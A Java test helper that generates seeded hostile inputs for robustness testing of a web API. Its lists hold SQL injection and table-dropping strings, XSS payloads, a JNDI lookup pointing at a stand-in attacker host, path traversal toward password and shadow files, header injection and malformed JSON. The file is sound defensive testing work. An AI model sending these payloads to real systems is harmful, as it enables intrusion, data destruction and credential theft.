package org.cakb.testing;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;

/**
 * Hostile request material, drawn from a seeded {@link Random} so every run sends the same cases:
 * injection strings, overlong and control-character strings, values of the wrong JSON type, malformed and
 * deeply nested JSON, invalid UTF-8 and path-traversal identifiers.
 */
public final class HostileInput {

    /** Marks where {@link #withInvalidUtf8} splices raw bytes that are not UTF-8 into an otherwise valid body. */
    public static final String BAD_BYTES_MARK = "@@not-utf8@@";

    public static final List<String> STRINGS = List.of(
            "' OR '1'='1", "'; DROP TABLE kb_record; --", "1; SELECT pg_sleep(5)--", "\" OR \"\"=\"", "admin'--",
            "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "<svg/onload=alert(1)>",
            "{{7*7}}", "${7*7}", "{inject:x}", "${jndi:ldap://attacker.invalid/a}", "%s%s%s%n", "\\u0000",
            "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/etc/shadow", "....//....//",
            "a\u0000b", "line\r\nSet-Cookie: pwned=1", "\u202Eevil", "\uFEFF", "😀🔥", "\uD83D", "null", "undefined", "NaN",
            "", " ", "\t\n", "-1", "0", "99999999999999999999999", "1e309", "true", "[]", "{}");

    public static final List<String> WRONG_TYPES = List.of(
            "1", "-1", "0", "1.5", "1e309", "-9223372036854775809", "99999999999999999999999999", "true", "false", "null",
            "[]", "{}", "[1,2,3]", "{\"a\":{\"b\":[null]}}", "\"\"", "\"x\"");

    public static final List<String> MALFORMED_JSON = List.of(
            "{", "}", "[", "{\"a\":", "{\"a\" 1}", "{'a': 1}", "{\"a\":1,}", "[1,2", "nul", "tru", "{\"a\":01}", "{\"a\":\"\\x41\"}",
            "{\"a\":\"unterminated}", "\"just a string\"", "12", "null", "[]", "{}{}", "{\"a\":1}garbage", "\u0000",
            "<?xml version=\"1.0\"?><a/>", "a=1&b=2", "{\"__proto__\":{\"admin\":true}}", "{\"a\":NaN}", "{\"a\":Infinity}",
            "/* comment */ {}", "\uFEFF{}");

    public static final List<String> PATH_IDS = List.of(
            "..%2F..%2Fetc%2Fpasswd", "%2e%2e", "..", "-1", "0", "99999999999999999999", "1%20OR%201%3D1", "1'", "%00", "1%00",
            "abc", "1.5", "%3Cscript%3E", "9223372036854775807", "1e3", "%252e%252e%252f", "%C0%AE%C0%AE");

    private final Random random;

    public HostileInput(long seed) {
        this.random = new Random(seed);
    }

    public Random random() {
        return random;
    }

    public <T> T pick(List<T> options) {
        return options.get(random.nextInt(options.size()));
    }

    public String hostileString() {
        return switch (random.nextInt(8)) {
            case 0 -> "x".repeat(10_000 + random.nextInt(10_000));
            case 1 -> pick(STRINGS).repeat(100 + random.nextInt(1000));
            case 2 -> randomUnicode(1 + random.nextInt(200));
            default -> pick(STRINGS);
        };
    }

    /** A JSON value (already encoded): a hostile string, a value of another type, or a deeply nested one. */
    public String hostileJsonValue() {
        return switch (random.nextInt(10)) {
            case 0, 1, 2, 3 -> quote(hostileString());
            case 4 -> nested(50 + random.nextInt(3000));
            default -> pick(WRONG_TYPES);
        };
    }

    public String nested(int depth) {
        boolean arrays = random.nextBoolean();
        StringBuilder b = new StringBuilder();
        for (int i = 0; i < depth; i++) {
            b.append(arrays ? "[" : "{\"a\":");
        }
        b.append("1");
        for (int i = 0; i < depth; i++) {
            b.append(arrays ? "]" : "}");
        }
        return b.toString();
    }

    private String randomUnicode(int length) {
        StringBuilder b = new StringBuilder();
        for (int i = 0; i < length; i++) {
            int cp = switch (random.nextInt(4)) {
                case 0 -> random.nextInt(0x20);
                case 1 -> 0x80 + random.nextInt(0x780);
                case 2 -> 0x1F300 + random.nextInt(0x300);
                default -> 0x20 + random.nextInt(0x5F);
            };
            b.appendCodePoint(cp);
        }
        return b.toString();
    }

    /** Replaces {@link #BAD_BYTES_MARK} in the text with bytes that are not valid UTF-8. */
    public byte[] withInvalidUtf8(String text) {
        byte[][] bad = {{(byte) 0xC3, 0x28}, {(byte) 0xFF, (byte) 0xFE}, {(byte) 0xE2, (byte) 0x82}, {(byte) 0xC0, (byte) 0xAF},
                {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80}};
        byte[] chosen = pick(List.of(bad));
        int at = text.indexOf(BAD_BYTES_MARK);
        byte[] head = text.substring(0, at).getBytes(StandardCharsets.UTF_8);
        byte[] tail = text.substring(at + BAD_BYTES_MARK.length()).getBytes(StandardCharsets.UTF_8);
        byte[] out = new byte[head.length + chosen.length + tail.length];
        System.arraycopy(head, 0, out, 0, head.length);
        System.arraycopy(chosen, 0, out, head.length, chosen.length);
        System.arraycopy(tail, 0, out, head.length + chosen.length, tail.length);
        return out;
    }

    public static String quote(String s) {
        StringBuilder b = new StringBuilder("\"");
        for (char c : s.toCharArray()) {
            switch (c) {
                case '"' -> b.append("\\\"");
                case '\\' -> b.append("\\\\");
                default -> {
                    if (c < 0x20 || Character.isSurrogate(c)) {
                        b.append(String.format("\\u%04x", (int) c));
                    } else {
                        b.append(c);
                    }
                }
            }
        }
        return b.append('"').toString();
    }
}
